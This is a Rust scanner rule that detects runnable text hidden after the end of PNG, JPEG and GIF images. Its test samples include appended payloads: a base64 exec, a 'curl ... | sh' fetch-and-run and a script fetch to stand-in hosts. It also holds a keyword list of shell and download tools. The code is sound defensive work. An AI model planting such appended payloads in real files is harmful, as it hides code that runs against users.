//! `package-trailing-bytes`: something lies behind the end of a picture.

use crate::finding::{Confidence, Severity};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use memchr::memmem;

/// The rule.
pub static RULE: Rule = Rule {
    id: "package-trailing-bytes",
    title: "Text that can run lies behind the end of a picture",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "Programs that show pictures stop at their end, and what lies behind is seen by nobody but the code that reads it.",
    fix: "Remove what lies behind the picture.",
    references: &["CWE-506", "ATT&CK T1027.003"],
    hits: &[Sample::Bytes("assets/p.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"), Sample::Bytes("assets/p.jpg", b"\xff\xd8\xff\xe0\0\x04ab\xff\xd9#!/bin/sh\ncurl https://get.example.com/i.sh | sh\n"), Sample::Bytes("assets/p.gif", b"GIF89a\x01\0\x01\0\0\0\0;<script>fetch('https://collect.example.com')</script>\n")],
    misses: &[Sample::Bytes("assets/p.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82"), Sample::Bytes("assets/p.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82\n\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"), Sample::Bytes("assets/p.jpg", b"\xff\xd8\xff\xe0\0\x04ab\xff\xd9Made with a camera, model one, in the garden.\n")],
    check: Check::Bytes(check),
};

/// Fewest bytes that could do something.
const LEAST: usize = 16;
/// How much of what lies behind is looked at.
const MOST: usize = 64 << 10;

fn check(_: &str, bytes: &[u8], reporter: &mut Reporter<'_>) {
    let end = if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        memmem::rfind(bytes, b"IEND\xae\x42\x60\x82").map(|at| at + 8)
    } else if bytes.starts_with(b"\xff\xd8\xff") {
        memmem::rfind(bytes, b"\xff\xd9").map(|at| at + 2)
    } else if bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a") {
        memmem::rfind(bytes, b"\0;").map(|at| at + 2)
    } else {
        None
    };
    let Some(behind) = end.and_then(|end| bytes.get(end..)) else {
        return;
    };
    let behind = &behind[..behind.len().min(MOST)];
    if behind.len() < LEAST {
        return;
    }
    let printable = behind
        .iter()
        .filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
        .count();
    if printable * 10 < behind.len() * 9 {
        return;
    }
    let signs: &[&[u8]] = &[
        b"#!/",
        b"<?php",
        b"<script",
        b"import ",
        b"eval(",
        b"exec(",
        b"curl ",
        b"wget ",
        b"powershell",
        b"base64",
        b"function",
        b"/bin/sh",
        b"require(",
    ];
    if signs
        .iter()
        .any(|sign| memmem::find(behind, sign).is_some())
    {
        reporter.raise_whole();
    }
}
